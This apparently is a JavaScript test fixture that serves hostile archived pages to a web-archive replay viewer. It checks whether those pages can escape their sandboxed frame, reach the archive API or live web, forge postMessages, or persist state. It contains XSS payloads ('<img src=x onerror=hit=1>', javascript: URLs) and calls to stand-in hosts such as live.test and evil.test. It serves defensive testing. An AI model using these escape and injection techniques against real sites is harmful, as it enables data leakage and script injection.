// Pages that try to get out of the frame, at the archive, at each other and at the live web.
//
// OWN and REPLAY stand for the archive's addresses. A page writes into `attempts` what came of each attempt. Functions that our client script replaced are taken unchanged from a frame, as an attacker would.
const kTry = `
const told = {own: 'OWN', replay: 'REPLAY'};
const attempts = {}, running = [];
const attempt = (name, f) => running.push(new Promise((done) => {
  const late = setTimeout(() => { attempts[name] = 'nothing came'; done(); }, 2500);
  Promise.resolve().then(f).then((v) => { attempts[name] = 'got ' + v; }, (e) => { attempts[name] = 'refused: ' + e.name; })
    .finally(() => { clearTimeout(late); done(); });
}));
const fresh = () => { const f = document.body.appendChild(document.createElement('iframe')); return window.frames[window.frames.length - 1]; };
const set = (e, n, v) => fresh().Element.prototype.setAttribute.call(e, n, v);
const refusal = (directive) => new Promise((done, failed) => document.addEventListener('securitypolicyviolation', (e) => {
  if (e.effectiveDirective.startsWith(directive)) failed(new DOMException('', 'SecurityError')); }));
addEventListener('load', () => setTimeout(async () => { await Promise.all(running); window.attempts = attempts; }));`;
const page = (title, script) => `<!doctype html><meta charset="utf-8"><title>${title}</title><body><h1>${title}</h1><script>${kTry}${script}</script>`;

const kReach = page("Reaching out", `
attempt('read the reading page', () => parent.document.title);
attempt('read its address', () => top.location.href);
attempt('read its storage', () => top.localStorage.length);
attempt('call its functions', () => top.eval('1'));
attempt('navigate it', () => { top.location = 'http://live.test/top'; return 'sent'; });
attempt('navigate it by javascript:', () => { top.location = 'javascript:document.title = 1'; return 'sent'; });
attempt('open a window', () => { if (!fresh().open('http://live.test/popup')) throw new DOMException('', 'SecurityError'); return 'a window'; });
attempt('ask its API', () => fresh().fetch(told.own + '/api/v1/versions?url=http://victim.test/').then((r) => r.text()));
attempt('ask its API without reading', () => fresh().fetch(told.own + '/healthz', {mode: 'no-cors'}).then((r) => r.type));
attempt('ask for the index', () => fresh().fetch(told.replay + '/archive/cdx?url=victim.test/*').then((r) => r.text()));
attempt('ask the live web', () => fresh().fetch('http://live.test/fetch', {mode: 'no-cors'}).then((r) => r.type));
attempt('beacon', () => { fresh().navigator.sendBeacon('http://live.test/beacon', 'x'); return refusal('connect-src'); });
attempt('socket', () => new Promise((done, failed) => { const s = new (fresh().WebSocket)('ws://live.test/socket'); s.onopen = () => done('open'); s.onerror = () => failed(new Error()); }));
attempt('image of the live web', () => new Promise((done, failed) => { const i = document.createElement('img'); i.onload = () => done('loaded'); i.onerror = () => failed(new Error()); set(i, 'src', 'http://live.test/image.png'); }));
attempt('frame the start page', () => { const f = document.body.appendChild(document.createElement('iframe')); set(f, 'src', told.own + '/'); return refusal('frame-src'); });
attempt('frame the live web', () => { const f = document.body.appendChild(document.createElement('iframe')); set(f, 'src', 'http://live.test/frame'); return refusal('frame-src'); });
attempt('service worker', () => fresh().ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/worker.js').then(() => 'registered'));
attempt('shared worker of the live web', () => new Promise((done, failed) => { const s = new (fresh().SharedWorker)('http://live.test/worker.js'); s.onerror = () => failed(new Error()); }));
attempt('hints', () => { for (const rel of ['prefetch', 'preload', 'modulepreload']) {
  const l = document.createElement('link'); set(l, 'as', 'script'); set(l, 'href', 'https://live.test/' + rel); set(l, 'rel', rel); document.head.append(l); } throw new DOMException('', 'None'); });
attempt('hints by ordinary scripts', () => { for (const rel of ['preconnect', 'dns-prefetch']) {
  const l = document.createElement('link'); l.rel = rel; l.href = 'https://live.test/' + rel; document.head.append(l);
  const m = document.createElement('link'); m.setAttribute('rel', rel); m.setAttribute('href', 'https://live.test/' + rel); document.head.append(m); } throw new DOMException('', 'None'); });
attempt('hints that only names leave by', () => { const l = document.createElement('link'); set(l, 'rel', 'preconnect'); set(l, 'href', 'https://hint.test/'); document.head.append(l);
  throw new DOMException('', 'None'); });
attempt('cookie for all', () => { const d = Object.getOwnPropertyDescriptor(fresh().Document.prototype, 'cookie');
  d.set.call(document, 'all=1; domain=localhost'); d.set.call(document, 'all=1; domain=.localhost; samesite=none; secure'); if (!d.get.call(document)) throw new Error(); return d.get.call(document); });
attempt('cookie for the archive', () => { const d = Object.getOwnPropertyDescriptor(fresh().Document.prototype, 'cookie');
  d.set.call(document, 'own=1; domain=127.0.0.1'); if (!d.get.call(document)) throw new Error(); return d.get.call(document); });
`);

// Each of these navigates or posts, so each is a page.
const submit = (action, target) => `attempt('post', () => { const f = document.createElement('form'); f.method = 'post'; set(f, 'action', ${action});
  set(f, 'target', '${target}'); document.body.append(f); fresh().HTMLFormElement.prototype.submit.call(f); return refusal('form-action'); });`;
const kGoing = {
  "post-live": page("Post to the live web", submit("'http://live.test/post'", "_self")),
  "post-own": page("Post to the archive", submit("told.own + '/api/v1/versions'", "_self")),
  "post-window": page("Post to a window", submit("'http://live.test/window'", "_blank")),
  "post-top": page("Post over the reading page", submit("'http://live.test/over'", "_top")),
  "refresh": page("Refresh", `attempt('refresh', () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=http://live.test/refresh'; document.head.append(m);
    return new Promise(() => {}); });`),
  "assign": page("Location", `attempt('assign', () => { fresh().setTimeout.call(window, "location = 'http://live.test/location?secret'"); return new Promise(() => {}); });`),
  "own": page("To the archive", `attempt('assign', () => { location = told.own + '/'; return new Promise(() => {}); });`),
  "download": page("Download", `attempt('download', () => { const a = document.createElement('a'); set(a, 'href', 'http://live.test/download'); set(a, 'download', 'x'); a.click(); return new Promise(() => {}); });`),
};

// What one page leaves and another looks for.
const kLeave = page("Leaving", `
attempt('leave', async () => { window.name = 'left'; localStorage.setItem('left', '1'); sessionStorage.setItem('left', '1'); new BroadcastChannel('left').postMessage('left');
  await new Promise((done, failed) => { const r = indexedDB.open('left'); r.onsuccess = done; r.onerror = failed; });
  await caches.open('left'); return 'left'; });`);
const kLook = page("Looking", `
window.heard = []; new BroadcastChannel('left').onmessage = (e) => heard.push(e.data);
attempt('name', () => window.name); attempt('localStorage', () => localStorage.getItem('left')); attempt('sessionStorage', () => sessionStorage.getItem('left'));
attempt('indexedDB', async () => (await indexedDB.databases()).length); attempt('caches', async () => (await caches.keys()).length);
attempt('cookie', () => document.cookie);`);

const kForge = page("Forging", `
attempt('forge', () => { for (const url of ['http://victim.test/', 'javascript:alert(1)', 'http://victim.test@evil.test/', '<img src=x onerror=hit=1>', told.own + '/'])
  top.postMessage({asof: 'here', url, at: '20240301120000', title: '<img src=x onerror=hit=1>'}, '*');
  for (let n = 0; n < 500; n++) top.postMessage({asof: 'blocked', url: '<img src=x onerror=hit=1>' + n, kind: 'x'}, '*');
  top.postMessage({asof: 'begin'}, '*'); top.postMessage({asof: 'blocked', url: {toString() { return 1; }}.toString(), kind: 'x'}, '*');
  top.postMessage(null, '*'); top.postMessage('here', '*'); return 'sent'; });`);

const kPath = page("By path", `
attempt('origin', () => { if (self.origin === 'null') throw new Error(); return self.origin; });
attempt('storage', () => localStorage.length); attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie; });
attempt('database', () => new Promise((done, failed) => { const r = indexedDB.open('x'); r.onsuccess = () => done('open'); r.onerror = failed; }));
attempt('service worker', () => navigator.serviceWorker.register('/worker.js').then(() => 'registered'));
attempt('API', () => fetch(told.own + '/api/v1/versions?url=http://victim.test/').then((r) => r.text()));
attempt('live web', () => fetch('http://live.test/path', {mode: 'no-cors'}).then((r) => r.type));
attempt('window', () => { if (!open('http://live.test/popup')) throw new Error(); return 'a window'; });`);

export const kMarkup = "http://evil.test/%3Cimg%20src=x%20onerror=hit=1%3E?%22%3E%3Cscript%3Ehit=1%3C/script%3E'%22";
const kMarkedPage = `<!doctype html><title>"><img src=x onerror=hit=1><script>hit=1</script></title><p>markup <a href="/%22%3E%3Cscript%3Ehit=1%3C/script%3E">link</a>`;

// All of them, for an archive that is served at `own` and `replay`.
export const hostile_answers = (own, replay) => answers_of((url, body, at) =>
  ({ url, type: "text/html", body: body.replace("'OWN'", `'${own}'`).replace("'REPLAY'", `'${replay}'`), at }));
const answers_of = (html) => [
  html("http://evil.test/reach.html", kReach), html("http://evil.test/forge.html", kForge), html("http://evil.test/path.html", kPath),
  ...Object.entries(kGoing).map(([name, body]) => html(`http://evil.test/${name}.html`, body)),
  html("http://evil.test/leave.html", kLeave), html("http://evil.test/look.html", kLook), html("http://evil.test/look.html", kLook + " ", "2024-06-01T12:00:00Z"),
  html("http://victim.test/look.html", kLook), html("http://victim.test/", "<title>Victim</title><h1>Victim</h1>"),
  html(kMarkup, kMarkedPage), html(decodeURI("http://evil.test/%22%3E%3Cscript%3Ehit=1%3C/script%3E").replace(/[<>" ]/g, encodeURIComponent), kMarkedPage),
  { url: "http://evil.test/worker.js", type: "text/javascript", body: "self.addEventListener('fetch', () => {});" },
];
export const kGoingNames = Object.keys(kGoing);
